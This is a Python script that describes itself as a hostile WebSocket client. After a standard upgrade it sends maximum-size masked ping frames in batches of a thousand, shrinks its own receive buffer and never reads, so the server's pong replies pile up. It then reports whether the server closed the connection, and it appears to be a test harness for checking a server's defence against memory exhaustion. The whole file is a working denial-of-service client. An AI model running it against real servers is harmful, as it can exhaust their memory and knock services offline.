#!/usr/bin/env python3
"""A hostile WebSocket client: it upgrades, then sends ping frames as fast as it can and never
reads a byte, so every pong the server writes stays in the server's buffers. Stops after
SECONDS or COUNT pings, or when the server closes the connection (a send fails). Prints one
JSON object: {"pings": sent, "closed": whether the server closed it, "after": seconds}.

usage: ping_flood_client.py HOST PORT PATH SECONDS COUNT
"""
import base64
import json
import os
import socket
import sys
import time


def main():
    host, port, path, seconds, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4]), int(sys.argv[5])
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    # A small receive window: what the server writes backs up into its own buffers at once.
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.settimeout(5)
    sock.connect((host, port))
    key = base64.b64encode(os.urandom(16)).decode()
    sock.sendall(
        (
            "GET %s HTTP/1.1\r\nHost: %s:%d\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            "Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n\r\n" % (path, host, port, key)
        ).encode()
    )
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = sock.recv(1)
        if not chunk:
            raise SystemExit("closed during the handshake")
        head += chunk
    if b" 101 " not in head.split(b"\r\n", 1)[0]:
        raise SystemExit("upgrade refused: %r" % head[:80])
    # A masked ping with the largest payload a control frame may carry (125 bytes, so each pong
    # is as big as a pong gets); 1000 of them per send.
    mask = os.urandom(4)
    payload = b"p" * 125
    frame = bytes([0x89, 0x80 | len(payload)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
    batch = frame * 1000
    start = time.time()
    sent = 0
    closed = False
    sock.settimeout(1)
    while sent < count and time.time() - start < seconds:
        try:
            sock.sendall(batch)
            sent += 1000
        except socket.timeout:
            continue  # the server stopped reading: keep trying until the time is up
        except OSError:
            closed = True
            break
    print(json.dumps({"pings": sent, "closed": closed, "after": round(time.time() - start, 2)}), flush=True)
    sock.close()


main()
